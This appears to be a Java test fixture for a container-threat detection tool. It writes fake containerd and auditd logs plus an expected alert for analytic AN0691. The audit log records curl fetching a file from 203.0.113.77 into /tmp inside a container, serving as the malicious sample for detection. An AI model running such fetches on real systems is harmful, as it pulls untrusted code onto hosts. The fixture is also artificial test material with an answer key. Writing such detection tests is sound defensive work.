package io.tallyman.cli;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;

/** Logs of one container from an unknown registry that fetches something, and the folders they lie in. */
final class Logs {

    static final String HOST = "node-7";

    static final String CONTAINERD = lines(
            "2026-03-02 09:15:00.100000001 +0000 UTC default /images/create {'name':'docker.io/someone/tool:latest'}",
            "2026-03-02 09:15:01.200000002 +0000 UTC default /containers/create {'id':'tool-1','image':'docker.io/someone/tool:latest','runtime':{'name':'io.containerd.runc.v2'}}",
            "2026-03-02 09:15:01.300000003 +0000 UTC default /tasks/create {'container_id':'tool-1','bundle':'/run/containerd/io.containerd.runtime.v2.task/default/tool-1','io':{},'pid':4711}",
            "2026-03-02 09:15:01.400000004 +0000 UTC default /tasks/start {'container_id':'tool-1','pid':4711}");

    static final String AUDIT = lines(
            "type=SYSCALL msg=audit(1772442905.500:901): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=4711 pid=4720 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm='curl' exe='/usr/bin/curl' key='exec'",
            "type=EXECVE msg=audit(1772442905.500:901): argc=4 a0='curl' a1='-o' a2='/tmp/x' a3='http://203.0.113.77/x'",
            "type=CWD msg=audit(1772442905.500:901): cwd='/'",
            "type=PATH msg=audit(1772442905.500:901): item=0 name='/usr/bin/curl' inode=11 dev=00:31 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
            "type=PROCTITLE msg=audit(1772442905.500:901): proctitle=6375726C");

    static final String EXPECTED =
            "{'alerts': [{'analytic': 'AN0691', 'subject': {'container': {'id': 'tool-1'}}, 'steps': [1, 3, 4], 'severity_at_least': 'medium'}], 'allow_extra': false}"
                    .replace('\'', '"');

    private Logs() {}

    private static String lines(String... lines) {
        return String.join("\n", lines).replace('\'', '"') + "\n";
    }

    /** Writes a file, and the folders above it where they are missing. */
    static Path write(Path file, String... lines) {
        try {
            Files.createDirectories(file.toAbsolutePath().getParent());
            return Files.writeString(
                    file, lines.length == 1 ? lines[0] : String.join("\n", Arrays.asList(lines)) + "\n");
        } catch (IOException unwritable) {
            throw new UncheckedIOException(unwritable);
        }
    }

    /** A folder that holds both logs. */
    static Path folder(Path folder) {
        write(folder.resolve("containerd.txt"), CONTAINERD);
        write(folder.resolve("audit.log"), AUDIT);
        return folder;
    }

    /** A scenario that expects one alert. */
    static Path scenario(Path folder, String... tunables) {
        folder(folder);
        write(folder.resolve("expected.json"), EXPECTED);
        write(
                folder.resolve("scenario.yaml"),
                "title: a tool is fetched",
                "analytic: AN0691",
                "verdict: malicious",
                "tunables: {" + String.join(", ", tunables) + "}",
                "logs:",
                "  - {file: containerd.txt, source: \"containerd:events\", host: " + HOST + "}",
                "  - {file: audit.log, source: \"auditd:SYSCALL\", host: " + HOST + "}");
        return folder;
    }
}
